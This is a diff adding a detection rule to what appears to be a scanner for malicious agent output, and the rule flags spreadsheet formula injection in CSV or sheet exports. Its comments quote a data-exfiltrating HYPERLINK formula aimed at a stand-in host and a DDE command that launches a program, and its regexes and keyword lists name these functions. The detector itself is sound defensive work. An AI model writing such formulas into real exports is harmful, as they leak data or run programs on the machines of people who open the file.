@@ -112,3 +112,30 @@ export const crlfInjectionRule: Rule = {
     return 0.85 * explanationFactor(view.text, m.index, m.index + m[0].length);
   },
 };
+
+/**
+ * A spreadsheet cell that runs when the CSV or sheet is opened: a formula that fetches a URL with the
+ * sheet's data in it (=HYPERLINK("http://x/?d="&A2:D200), =IMPORTXML, =WEBSERVICE) or a DDE command
+ * (=cmd|' /C calc'!A0). An agent that writes such text into an export hands it to whoever opens it.
+ */
+export const spreadsheetFormulaRule: Rule = {
+  id: 'inj-spreadsheet-formula',
+  category: 'malicious_input',
+  severity: 'high',
+  owasp: 'LLM05:2025',
+  title: 'Spreadsheet formula injection (CSV injection)',
+  description:
+    'A cell value that starts with =, +, - or @ and calls HYPERLINK, IMPORTXML, IMPORTDATA, IMPORTHTML, IMPORTFEED, IMAGE or WEBSERVICE on an outside URL with the sheet\'s cells joined into it, or launches a DDE command (=cmd|…). Opened in Excel, Sheets or LibreOffice it sends the sheet\'s data away or runs a program. A plain link or import is not matched.',
+  confidence: 0.85,
+  keywords: ['hyperlink', 'importxml', 'importdata', 'importhtml', 'importfeed', 'image', 'webservice', 'cmd', 'dde'],
+  patterns: [
+    /(?:^|[,;\t"'|])\s*["']?[=+@-]\s*(?:hyperlink|importxml|importdata|importhtml|importfeed|image|webservice|filterxml)\s*\(\s*["']{0,2}(?:https?:)?\/\/[^\s"']{3,200}/gm,
+    /(?:^|[,;\t"'|])\s*["']?[=+@-]\s*(?:cmd|dde|msexcel|powershell)\s*\|\s*['"]?[^|\n]{0,80}['"]?\s*!/gm,
+  ],
+  validate: (m, view) => {
+    // A formula that concatenates cells into the URL sends the sheet's data; a plain link or import is how sheets are used.
+    const tail = view.text.slice(m.index, m.index + m[0].length + 160);
+    const exfil = /&\s*(?:concatenate|textjoin|[a-z]{1,3}\d{1,7})|\?[\w-]{1,20}=["']{0,2}\s*&/.test(tail) || /\|/.test(m[0]);
+    return exfil ? 0.85 * explanationFactor(view.text, m.index, m.index + m[0].length) : 0;
+  },
+};
